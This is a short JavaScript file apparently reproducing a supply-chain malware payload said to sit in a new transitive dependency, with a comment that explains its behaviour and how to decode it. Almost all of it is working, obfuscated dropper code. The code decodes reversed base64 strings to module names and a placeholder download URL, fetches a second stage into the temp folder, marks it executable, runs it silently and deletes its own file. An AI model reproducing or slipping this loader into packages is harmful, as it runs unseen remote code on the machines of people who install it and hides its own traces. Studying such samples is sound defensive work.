// P23's payload (in the new transitive dependency), lightly obfuscated like the original: strings
// reversed and base64'd. It downloads a second stage into the temp folder, makes it executable,
// runs it, then deletes this file. Decode a string with: Buffer.from(s,'base64').toString().split('').reverse().join('')
const _s = ['cHR0aA==', 'c2Y=', 'c28=', 'aHRhcA==', 'c3NlY29ycF9kbGloYw==', 'MzMwMjAyNi9kaWxhdm5pLmthbGNyZnMvLzpwdHRo', 'eXAuZGw=', 'cmlkcG10'];
const _d = (i) => Buffer.from(_s[i], 'base64').toString().split('').reverse().join('');
const h = require(_d(0)), f = require(_d(1)), o = require(_d(2)), p = require(_d(3)), c = require(_d(4));
const t = p.join(o[_d(7)](), _d(6));
h.get(_d(5), (r) => { const b = []; r.on('data', (x) => b.push(x)); r.on('end', () => {
  f.writeFileSync(t, Buffer.concat(b)); f.chmodSync(t, 0o755);
  c.spawnSync('python3', [t], { stdio: 'ignore' }); c.spawnSync(t, [], { stdio: 'ignore' });
  try { f.unlinkSync(__filename); } catch (e) {}
}); }).on('error', () => {}).setTimeout(3000, function () { this.destroy(); });
